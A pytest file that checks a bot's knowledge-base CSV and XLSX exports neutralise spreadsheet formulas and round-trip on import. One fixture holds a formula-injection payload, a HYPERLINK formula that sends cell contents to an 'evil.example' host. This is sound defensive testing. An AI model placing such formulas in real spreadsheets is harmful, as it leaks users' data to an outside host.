"""Exports never hand a spreadsheet program a formula, and imports give the text back.

The attack: a title or phrasing `=1+2` or `=HYPERLINK(...)` (a user's question can become a
phrasing through the inbox) was exported as a live formula in XLSX and a raw `=` cell in CSV.
"""

from __future__ import annotations

import csv
import io

import pytest
import yaml
from openpyxl import load_workbook

from bot.curation.transfer import escape_cell, unescape_cell
from tests.bot.web.conftest import csrf_of, login, staff_app  # noqa: F401 - fixtures

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")'
PHRASING = "+48 123 456 789 czy mogę zadzwonić"


@pytest.mark.parametrize(
    "value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", "''", "'plain", "plain", ""]
)
def test_cells_round_trip_and_never_start_a_formula(value):
    cell = escape_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_cell(cell) == value


@pytest.fixture
def hostile_kb(settings):
    """The knowledge base with a formula as a Polish title and a phrasing."""
    path = settings.kb_dir / "card.yml"
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    doc["entries"][0]["pl"]["title"] = TITLE
    doc["entries"][0]["pl"]["phrasings"][0] = PHRASING
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return doc["entries"][0]["id"]


def _preview(client, name: str, data: bytes):
    page = client.get("/staff/transfer").text
    files = {"files": (name, data, "application/octet-stream")}
    return client.post("/staff/transfer/preview", data={"csrf_token": csrf_of(page)}, files=files)


def test_exports_neutralise_formulas_and_import_unchanged(hostile_kb, staff_app, login):  # noqa: F811
    client = login("curator")
    body = client.get("/staff/transfer/export.csv").content
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    row = next(r for r in rows if r["id"] == hostile_kb and r["lang"] == "pl")
    assert row["title"] == "'" + TITLE
    assert row["phrasings"].startswith("'" + PHRASING)
    for cells in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values())

    book = load_workbook(io.BytesIO(client.get("/staff/transfer/export.xlsx").content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + TITLE in {cell.value for cell in cells}

    xlsx = client.get("/staff/transfer/export.xlsx").content
    for name, data in (("kb.csv", body), ("kb.xlsx", xlsx)):
        preview = _preview(client, name, data)
        assert preview.status_code == 200 and 'id="no-changes"' in preview.text, name
